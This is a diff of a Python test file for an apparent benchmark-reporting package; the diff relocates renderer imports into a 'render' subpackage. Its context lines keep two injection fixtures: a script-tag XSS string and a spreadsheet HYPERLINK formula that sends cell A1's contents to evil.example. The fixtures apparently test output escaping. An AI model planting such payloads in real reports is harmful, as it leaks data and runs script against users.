@@ -12,10 +12,6 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from arraybench.report.escape import for_spreadsheet
-from arraybench.report.export import points_csv
-from arraybench.report.html import render_html
-from arraybench.report.markdown import render_markdown
 from arraybench.report.model import (
     CurvePanel,
     Overlay,
@@ -28,7 +24,11 @@ from arraybench.report.model import (
     Timeline,
     WorkloadSection,
 )
-from arraybench.report.xlsx import write_xlsx
+from arraybench.report.render.escape import for_spreadsheet
+from arraybench.report.render.export import points_csv
+from arraybench.report.render.html import render_html
+from arraybench.report.render.markdown import render_markdown
+from arraybench.report.render.xlsx import write_xlsx
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
